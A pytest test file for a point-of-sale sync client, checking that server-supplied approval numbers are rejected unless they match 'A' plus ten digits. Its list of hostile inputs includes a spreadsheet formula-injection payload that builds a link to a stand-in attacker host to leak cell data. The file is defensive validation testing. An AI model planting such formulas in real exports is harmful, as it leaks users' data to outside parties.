"""The POS takes an approval number from the server only as ``A`` and ten digits: anything
else in a push result or a paid payment request is a malformed reply (E4xx ``BadReply``),
so it never reaches a receipt, a screen or the sales export."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from typing import Any, ClassVar

import pytest

from pos_app.sync.client import SyncClient
from pos_app.sync.errors import BadReply

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"OK")', "A123", "A000000004２", "a0000000042"]


class _Server(http.server.BaseHTTPRequestHandler):
    """Answers every call with the JSON the test put in ``reply``."""

    reply: ClassVar[dict[str, Any]] = {}

    def _answer(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        body = json.dumps(self.reply).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = _answer

    def log_message(self, *_args: object) -> None:
        pass


@pytest.fixture
def client() -> Iterator[SyncClient]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Server)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    client = SyncClient(f"http://127.0.0.1:{server.server_address[1]}", token="t")
    try:
        yield client
    finally:
        client.close()
        server.shutdown()
        server.server_close()


def push_reply(approval_no: str) -> dict[str, Any]:
    result = {"seq": 1, "event_id": "e-1", "status": "applied", "outcome": "accepted"}
    return {"results": [{**result, "approval_no": approval_no, "cashback": 0}], "last_seq": 1}


def paid_request(approval_no: str) -> dict[str, Any]:
    return {
        "request_id": "r-1",
        "status": "paid",
        "amount": 1_000,
        "expires_at": "2026-11-25T03:02:00.000Z",
        "approval_no": approval_no,
        "cashback": 0,
    }


EVENT = {"seq": 1, "event_id": "e-1"}


def test_a_well_formed_approval_number_is_taken(client: SyncClient):
    _Server.reply = push_reply("A0000000042")
    assert client.push("dev-1", [EVENT]).results[0]["approval_no"] == "A0000000042"
    _Server.reply = paid_request("A0000000042")
    assert client.payment_request("dev-1", "r-1")["approval_no"] == "A0000000042"


@pytest.mark.parametrize("approval_no", HOSTILE)
def test_a_malformed_approval_number_in_a_push_result_is_a_bad_reply(
    client: SyncClient, approval_no: str
):
    _Server.reply = push_reply(approval_no)
    with pytest.raises(BadReply) as refused:
        client.push("dev-1", [EVENT])
    assert refused.value.code.startswith("E4")


@pytest.mark.parametrize("approval_no", HOSTILE)
def test_a_malformed_approval_number_of_a_paid_request_is_a_bad_reply(
    client: SyncClient, approval_no: str
):
    _Server.reply = paid_request(approval_no)
    with pytest.raises(BadReply):
        client.payment_request("dev-1", "r-1")
